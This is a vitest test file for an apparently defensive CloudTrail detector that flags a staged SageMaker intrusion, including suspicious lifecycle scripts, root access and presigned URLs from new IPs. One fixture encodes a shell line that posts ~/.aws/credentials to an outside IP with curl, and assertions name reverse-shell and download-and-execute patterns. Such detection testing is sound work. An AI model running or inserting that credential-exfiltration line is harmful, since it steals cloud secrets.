import { expect, it } from 'vitest';
import { DETECTIONS } from '../../../src/trail/detect/index.js';
import { alertsOf, fixture, rec, USER } from './support.js';

// A day of a team's ordinary SageMaker use, then an intrusion three days later. The events follow
// the documented CloudTrail record shape of each API (requestParameters as the API takes them, in
// camelCase), as no public log of these SageMaker calls exists.
const records = fixture('sagemaker-intrusion.json');

it('reports the intrusion and nothing from the ordinary day', async () => {
  const alerts = await alertsOf(DETECTIONS, records);
  const seen = alerts.map((a) => [a.source.index, a.detectionId]);
  expect(seen).toEqual([
    [7, 'sagemaker-lifecycle-script-suspicious'],
    [8, 'sagemaker-notebook-internet-enabled'],
    [8, 'sagemaker-role-new-passer'],
    [8, 'sagemaker-notebook-root-access-granted'],
    [9, 'sagemaker-notebook-root-access-granted'],
    [10, 'sagemaker-presigned-url-outside-vpce'],
    [10, 'sagemaker-presigned-url-new-ip'],
    [11, 'sagemaker-monitoring-stopped'],
    [13, 'sagemaker-model-without-isolation'],
    [13, 'sagemaker-role-new-passer'],
    [14, 'sagemaker-endpoint-config-without-capture'],
  ]);
});

it('explains each SageMaker alert with the fields that decided', async () => {
  const alerts = await alertsOf(DETECTIONS, records);
  const by = (id: string, index: number) => alerts.find((a) => a.detectionId === id && a.source.index === index)!;

  const script = by('sagemaker-lifecycle-script-suspicious', 7);
  expect(script.summary).toBe('wrote a suspicious script into lifecycle configuration jupyter-extensions');
  expect(script.evidence[0]).toMatch(/^requestParameters\.onStart\[\*\]\.content: download-and-execute: download piped to a shell .*reverse-shell: bash \/dev\/tcp/);

  expect(by('sagemaker-role-new-passer', 8)).toMatchObject({
    principal: 'arn:aws:iam::111122223333:user/mallory',
    resource: { type: 'AWS::IAM::Role', id: 'arn:aws:iam::111122223333:role/OrganizationAdmin' },
    property: 'requestParameters.roleArn',
  });
  expect(by('sagemaker-notebook-internet-enabled', 8).evidence).toEqual(['requestParameters.directInternetAccess absent']);
  expect(by('sagemaker-notebook-root-access-granted', 9)).toMatchObject({
    summary: 'turned on root access for notebook churn-analysis',
    evidence: ['requestParameters.rootAccess = Enabled'],
    resource: { type: 'AWS::SageMaker::NotebookInstance', id: 'churn-analysis' },
  });
  expect(by('sagemaker-presigned-url-new-ip', 10).summary).toBe('created a presigned URL for churn-analysis from new source IP 203.0.113.50');
  expect(by('sagemaker-endpoint-config-without-capture', 14).evidence).toEqual(['requestParameters.dataCaptureConfig absent']);
  expect(by('sagemaker-model-without-isolation', 13).evidence).toEqual(['requestParameters.enableNetworkIsolation absent']);
});

it('reports every first sighting with no learning period, and none when the log is all learning period', async () => {
  const noBaseline = await alertsOf(DETECTIONS, records, { baselineDays: 0 });
  const passers = noBaseline.filter((a) => a.detectionId === 'sagemaker-role-new-passer').map((a) => a.source.index);
  // alice passes the execution role (0), the pipeline passes it (3), mallory the admin role (8) and the execution role (13);
  // the pipeline's CreateModel (4) passes a role the pipeline already passed.
  expect(passers).toEqual([0, 3, 8, 13]);
  const longBaseline = await alertsOf(DETECTIONS, records, { baselineDays: 30 });
  expect(longBaseline.filter((a) => a.detectionId === 'sagemaker-role-new-passer' || a.detectionId === 'sagemaker-presigned-url-new-ip')).toEqual([]);
});

it('starts the learning period at the start of the log, not at the first SageMaker call', async () => {
  const first = rec({ eventSource: 'sts.amazonaws.com', eventName: 'GetCallerIdentity', eventTime: '2024-09-01T00:00:00Z', userIdentity: USER });
  const pass = rec({
    eventSource: 'sagemaker.amazonaws.com',
    eventName: 'CreateTrainingJob',
    eventTime: '2024-09-03T00:00:00Z',
    userIdentity: USER,
    sourceIPAddress: '198.51.100.7',
    requestParameters: { trainingJobName: 'j', roleArn: 'arn:aws:iam::111122223333:role/Exec' },
  });
  expect(await alertsOf(DETECTIONS, [first, pass])).toHaveLength(1);
  expect(await alertsOf(DETECTIONS, [pass])).toHaveLength(0);
});

it('leaves role passing done by AWS services (CloudFormation) and failed calls out', async () => {
  const base = { eventSource: 'sagemaker.amazonaws.com', eventName: 'CreateNotebookInstance', userIdentity: USER, requestParameters: { notebookInstanceName: 'n', roleArn: 'arn:aws:iam::111122223333:role/Exec', directInternetAccess: 'Disabled', rootAccess: 'Disabled' } };
  const viaCfn = rec({ ...base, sourceIPAddress: 'cloudformation.amazonaws.com', userIdentity: { ...USER, invokedBy: 'cloudformation.amazonaws.com' } });
  const failed = rec({ ...base, sourceIPAddress: '198.51.100.7', errorCode: 'ValidationException' });
  expect(await alertsOf(DETECTIONS, [viaCfn, failed], { baselineDays: 0 })).toEqual([]);
});

it('reads Studio lifecycle configurations too', async () => {
  const content = Buffer.from('#!/bin/bash\ncat ~/.aws/credentials | curl -X POST --data-binary @- https://203.0.113.9/c\n').toString('base64');
  const r = rec({
    eventSource: 'sagemaker.amazonaws.com',
    eventName: 'CreateStudioLifecycleConfig',
    userIdentity: USER,
    requestParameters: { studioLifecycleConfigName: 'kernel-setup', studioLifecycleConfigContent: content, studioLifecycleConfigAppType: 'JupyterServer' },
  });
  const [alert] = await alertsOf(DETECTIONS, [r]);
  expect(alert).toMatchObject({ detectionId: 'sagemaker-lifecycle-script-suspicious', resource: { type: 'AWS::SageMaker::StudioLifecycleConfig', id: 'kernel-setup' } });
  expect(alert!.evidence[0]).toContain('credential-access: AWS credentials file');
});
